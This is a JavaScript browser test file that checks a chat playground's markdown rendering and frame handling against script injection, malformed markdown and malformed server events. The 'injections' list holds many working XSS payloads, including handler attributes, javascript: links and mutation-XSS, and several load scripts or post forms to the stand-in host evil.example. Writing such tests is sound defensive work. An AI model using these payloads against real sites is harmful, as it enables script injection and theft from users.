/** Texts and frames in the playground that are broken, unknown or meant to do harm. */

import assert from "node:assert/strict";
import { before, test } from "node:test";
import { startChromium } from "./chromium.js";
import { stopAfterwards } from "./cleanup.js";
import { answered, answers, closePlayground, openConversation, say, settled } from "./conversation-page.js";
import { keepScreenshot as screenshot } from "./playground.js";
import { startServer } from "./server.js";
import { unknownFrames } from "./unknown-frames.js";

let browser, server;

before(async () => {
  const variables = { WORKER_DATABASE_TYPE: "memory", RUST_LOG: "off" };
  server = await startServer("playground-server", variables);
  browser = await startChromium();
}, { timeout: 30_000 });

stopAfterwards(() => browser, () => [server]);

const limit = { timeout: 60_000 };
const open = (path, onSocket) => openConversation(browser, server.host, path, {}, onSocket);

/** Texts that try to run a script or to load something. */
const injections = [
  "<script>pwned = 1; alert(1)</script>",
  "<script src=https://evil.example/a.js></script>",
  '<img src="https://evil.example/a.png" onerror="pwned = 2">',
  "<img src=x onerror=pwned=3>",
  "<svg onload=pwned=4><animate onbegin=pwned=4 attributeName=x dur=1s></svg>",
  "[click](javascript:pwned=5)",
  "[click](JaVa\tScRiPt:pwned=6)",
  "[click](&#106;avascript&colon;pwned=7)",
  "[click](data:text/html,<script>parent.pwned=8</script>)",
  "![x](javascript:pwned=9)",
  '![x](x"onerror="pwned=10)',
  '[x](https://ok.example/"onmouseover="pwned=11)',
  "<javascript:pwned=12>",
  '<iframe srcdoc="<script>parent.pwned=13</script>" src="https://evil.example/"></iframe>',
  "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over the page</p>',
  '<form action="https://evil.example/" id="composer"><input name="attributes"><button>send</button></form>',
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=14&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=pwned=15>\">",
  "<details open ontoggle=pwned=16><summary>open</summary></details>",
  '<a href="javascript:pwned=17" onclick="pwned=17">click</a>',
  "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/c.css>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "```html\n<script>pwned = 18</script>\n```",
  '```"><img src=x onerror=pwned=19>\ncode\n```',
  "| <img src=x onerror=pwned=20> |\n|---|\n| [x](vbscript:pwned=20) |",
  "[x]: javascript:pwned=21\n\n[x]",
  "<b>bold</b> &lt;img src=x onerror=pwned=22&gt;",
  "$`<xmp><p title=\"</xmp><img src=x onerror=pwned=23>\">`",
];

/** Asserts that the page has nothing that runs, and nothing over or beside the conversation. */
async function assertHarmless(page) {
  const found = await page.evaluate(() => {
    const elements = [...document.querySelectorAll("*")];
    const attributes = elements.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ name, value })));
    return {
      pwned: globalThis.pwned,
      scripts: document.scripts.length,
      handlers: attributes.filter(({ name }) => name.startsWith("on")),
      addresses: attributes.filter(({ value }) => /^\s*(java|vb)script:/i.test(value)),
      foreign: [...document.querySelectorAll("iframe, object, embed, base, meta[http-equiv], .markdown :is(style, form, input, svg, math, link)")]
        .map(({ outerHTML }) => outerHTML),
      styles: [...document.querySelectorAll(".markdown [style], .markdown [id]")].map(({ outerHTML }) => outerHTML),
      composers: document.querySelectorAll("#composer").length,
      isWide: document.documentElement.scrollWidth > document.documentElement.clientWidth
        || document.querySelector(".scroller").scrollWidth > document.querySelector(".scroller").clientWidth,
    };
  });
  assert.deepEqual(found, {
    pwned: undefined, scripts: 1, handlers: [], addresses: [], foreign: [], styles: [], composers: 1, isWide: false,
  });
}

test("markdown cannot run scripts", limit, async () => {
  const page = await open("parrot");
  await say(page, injections.join("\n\n"));
  await settled(page);
  await assertHarmless(page);
  await screenshot(page, "injection");
  for (const [index, text] of injections.entries()) {
    await say(page, text);
    await answers(page).nth(index + 1).waitFor();
    await settled(page);
    // What a user might do.
    for (const link of await answers(page).nth(index + 1).locator("a[href], summary").all()) {
      await link.hover();
      if (await link.getAttribute("target") !== "_blank") await link.click();
    }
  }
  await assertHarmless(page);
  assert.deepEqual(page.context().pages().length, 1);
  await closePlayground(page);
});

test("strange texts are shown", limit, async () => {
  const page = await open("parrot");
  const shown = async (text, expected) => {
    const before = await answers(page).count();
    await say(page, text);
    await answers(page).nth(before).waitFor();
    await settled(page);
    if (expected !== undefined) await answered(page, expected);
    await assertHarmless(page);
  };
  await shown("a \u202egnp.exe\u202c b \u2066c\u2069", "a [U+202E]gnp.exe[U+202C] b c");
  assert.equal(await page.getByRole("heading", { level: 1 }).innerText(), "a [U+202E]gnp.exe[U+202C] b c");
  await shown("שלום **world**", "שלום world");
  const family = "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}";
  await shown(`${family} e\u0301 Z${"\u0334\u0322".repeat(200)} \u{1f1e9}`, `${family} e\u0301 Z${"\u0334\u0322".repeat(200)} \u{1f1e9}`);
  await screenshot(page, "strange-texts");
  await shown("**a [b](c ~~d `e | f |\n|--\n> - * 1. ```\n[");
  await shown("*".repeat(5_000));
  await shown("> ".repeat(3_000) + "deep");
  await shown("[".repeat(3_000) + "](".repeat(3_000));
  await shown(`| a | b |\n|---|---|\n${"| c | d |\n".repeat(2_000)}`);
  await screenshot(page, "broken-markdown");
  const line = "0123456789".repeat(20_000);
  await shown(line, line);
  await screenshot(page, "long-line");
  await shown("the end", "the end");
  await closePlayground(page);
});

const nasty = '<img src=x onerror="pwned=1">\u202e';

/** Events and other frames of a newer server, which has also met harmful agents. */
function strangeFrames(thread_id, seq, run_id) {
  const run = { id: run_id, thread_id, event_id: "N1", status: nasty, started_at: "soon", ended_at: {}, error: [nasty], usage: [null, { model: nasty, costs: [null, { amount: "x", currency: nasty }] }] };
  const image = { type: "image", url: "javascript:pwned=1", alt: nasty, width: "wide" };
  const events = [
    { type: "message", actor: "assistant", author: nasty, content: [{ type: "text", text: nasty }, { type: "hologram", of: nasty }, null, 7, image] },
    { type: "message", actor: "assistant", content: [{ type: "audio", url: "javascript:pwned=1", filename: nasty }, { type: "document", url: "javascript:pwned=1", filename: nasty, size_bytes: "big" }] },
    { type: "message", actor: "system", content: [{ type: "text", text: nasty }] },
    { type: "message", actor: "oracle", content: "text" },
    { type: "reasoning", actor: "assistant", content: null, streaming: "perhaps" },
    { type: "tool.call", actor: "assistant", data: { id: "c", name: nasty, display_name: nasty, args: { [nasty]: nasty } } },
    { type: "tool.result", actor: "tool", data: { id: "c", name: nasty, args: null, result: { error: nasty } } },
    { type: "tool.transaction", actor: "tool", data: null },
    { type: "tool.call", actor: "assistant", data: "text" },
    { type: "form", actor: "assistant", data: { message: nasty, submit_label: nasty, size: nasty, elements: [null, { type: "text_input", name: "__proto__", label: nasty, input_type: nasty },
      { type: "slider_input", name: "s", label: nasty }, { type: "select_input", name: "t", label: 7, options: "none" }, { type: "radio_input", name: "u", options: [null, { value: nasty, label: nasty }] }, { type: "file_input", name: "f" }] } },
    { type: "form", actor: "assistant", data: { elements: "none" } },
    { type: "form.response", actor: "user", data: null },
    { type: "hologram", actor: "oracle", content: [{ type: "smell" }, null], data: { nasty } },
    { type: "message", actor: "assistant", created_at: "yesterday", run_id, content: [{ type: "text", text: "after the storm" }] },
  ];
  const numbered = events.map((event, index) => ({ id: `N${index}`, thread_id, created_at: new Date().toISOString(), ...event, seq: seq + index }));
  return [
    { type: "event.append", payload: { thread_id, events: numbered, run } },
    { type: "thread.upsert", payload: { thread: { id: thread_id, title: nasty, metadata: nasty, owner: null } } },
    { type: "run.upsert", payload: { run } },
  ].map((frame) => JSON.stringify({ id: "0", ...frame }));
}

test("frames of a newer server are shown as JSON or ignored", limit, async () => {
  let send;
  const page = await open("parrot", (socket) => {
    socket.connectToServer();
    send = (text) => socket.send(text);
  });
  await say(page, "hello");
  await settled(page);
  const thread = page.url().split("/").at(-1);
  for (const text of unknownFrames) send(typeof text === "string" ? text.replaceAll('"T"', JSON.stringify(thread)) : text);
  await page.locator(".messages details.unknown").first().waitFor();
  await assertHarmless(page);
  // The next real event has the number of the unknown one.
  await page.reload();
  await answered(page, "hello");
  await say(page, "hello again");
  await answered(page, "hello again");
  await settled(page);
  for (const text of strangeFrames(thread, 5, "R")) send(text);
  await answered(page, "after the storm");
  for (const fold of await page.locator(".scroller details > summary").all()) await fold.click();
  await assertHarmless(page);
  await screenshot(page, "newer-server");
  await closePlayground(page);
});
